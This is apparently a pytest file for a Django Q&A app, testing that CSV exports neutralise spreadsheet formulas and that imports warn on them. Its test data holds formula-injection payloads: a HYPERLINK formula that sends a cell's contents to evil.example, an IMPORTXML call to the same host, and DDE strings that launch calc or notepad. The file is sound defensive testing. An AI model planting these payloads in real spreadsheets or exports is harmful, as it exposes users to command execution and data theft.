"""CSV exports neutralise spreadsheet formulas and imports restore them (issue #16 item 3)."""

import csv
import io
import json

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import call_command

from knowledge import formats, services
from knowledge.models import Category, QAPair

pytestmark = pytest.mark.django_db

HOSTILE = {
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"点击查看订单\")": "=CMD|' /C calc'!A0",
    "+1+cmd|' /C notepad'!A0": "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0": "'=already quoted once",
}
# Texts that begin with a quote or a formula character for honest reasons, and tricky quotes.
HONEST = {
    "-5% off 这件还能用吗？": "'Tis the season: -5% off.",
    "'quoted' question": "''+two quotes then plus",
    "@客服 在吗": "'",
    "''": "+86 138 0000 0000",
}


def _csv_cells(content):
    return list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"))))


def _texts():
    return [(p.instruction, p.input, p.output, p.category.name if p.category else "") for p in QAPair.objects.order_by("id")]


def test_csv_export_puts_a_quote_before_every_cell_a_spreadsheet_would_run():
    category = Category.objects.create(name="=IMPORTXML(\"http://evil.example\",\"//a\")")
    for question, answer in HOSTILE.items():
        QAPair.objects.create(instruction=question, input="@A1", output=answer, category=category)
    QAPair.objects.create(instruction="如何退货？", output="7天无理由退货。")

    rows = _csv_cells(services.qa_export(pairs=QAPair.objects.all(), file_format="csv"))

    for row, (question, answer) in zip(rows, HOSTILE.items()):
        assert row["instruction"] == "'" + question and row["output"] == "'" + answer
        assert row["input"] == "'@A1" and row["category"] == "'" + category.name
    assert (rows[-1]["instruction"], rows[-1]["output"]) == ("如何退货？", "7天无理由退货。")


def test_tab_and_carriage_return_cells_are_neutralised_too():
    content = formats.serialise([{"instruction": "\t=1+1", "output": "\r=1+1"}], "csv")
    row = _csv_cells(content)[0]
    assert (row["instruction"], row["output"]) == ("'\t=1+1", "'\r=1+1")


@pytest.mark.parametrize("file_format", ["json", "jsonl"])
def test_json_and_jsonl_exports_keep_formula_like_text_as_it_is(file_format):
    for question, answer in HOSTILE.items():
        QAPair.objects.create(instruction=question, output=answer)
    content = services.qa_export(pairs=QAPair.objects.all(), file_format=file_format).decode()
    records = json.loads(content) if file_format == "json" else [json.loads(line) for line in content.splitlines()]
    assert [(r["instruction"], r["output"]) for r in records] == list(HOSTILE.items())


def test_csv_export_then_import_restores_every_text_exactly():
    category = Category.objects.create(name="-折扣")
    for question, answer in [*HOSTILE.items(), *HONEST.items()]:
        QAPair.objects.create(instruction=question, input="'@备注", output=answer, category=category)
    before = _texts()

    exported = services.qa_export(pairs=QAPair.objects.all(), file_format="csv")
    QAPair.objects.all().delete()
    Category.objects.all().delete()
    report = services.qa_import(content=exported, filename="export.csv")

    assert report.committed, report.as_dict()
    assert _texts() == before
    assert not any(row.warnings for row in report.rows)  # our own export carries no live formula


def test_importing_a_hostile_csv_warns_by_row_and_field_and_stores_the_text():
    content = (
        "instruction,input,output\r\n"
        "如何退货？,,7天无理由退货。\r\n"
        '"=HYPERLINK(""http://evil.example"",""退款"")",,@SUM(1+1)\r\n'
        "发票怎么开？,\t=1,-5% off\r\n"
    ).encode()

    report = services.qa_import(content=content, filename="hostile.csv")

    assert report.committed and [row.action for row in report.rows] == ["created"] * 3
    assert [sorted(row.warnings) for row in report.rows] == [[], ["instruction", "output"], ["input", "output"]]
    assert "formula" in report.rows[1].warnings["instruction"][0]
    assert report.as_dict()["rows"][2]["warnings"] == report.rows[2].warnings
    assert QAPair.objects.get(instruction__startswith="=HYPERLINK").output == "@SUM(1+1)"


def test_a_json_import_of_formula_like_text_neither_warns_nor_changes_it():
    content = json.dumps([{"instruction": q, "output": a} for q, a in HOSTILE.items()]).encode()
    report = services.qa_import(content=content, filename="faq.json")
    assert report.committed and not any(row.warnings for row in report.rows)
    assert [(p.instruction, p.output) for p in QAPair.objects.order_by("id")] == list(HOSTILE.items())


def test_the_api_import_report_and_the_command_show_the_warnings(staff_api, tmp_path, capsys):
    content = "instruction,output\r\n=1+1,答案\r\n".encode()
    upload = SimpleUploadedFile("hostile.csv", content, content_type="text/csv")
    response = staff_api.post(
        "/api/v1/qa-pairs/import/", {"file": upload, "dry_run": "true"}, format="multipart", HTTP_ACCEPT_LANGUAGE="en"
    )
    assert response.status_code == 200 and list(response.json()["rows"][0]["warnings"]) == ["instruction"]

    path = tmp_path / "hostile.csv"
    path.write_bytes(content)
    call_command("import_qa", str(path), "--dry-run")
    assert "row 1: warning: instruction:" in capsys.readouterr().out
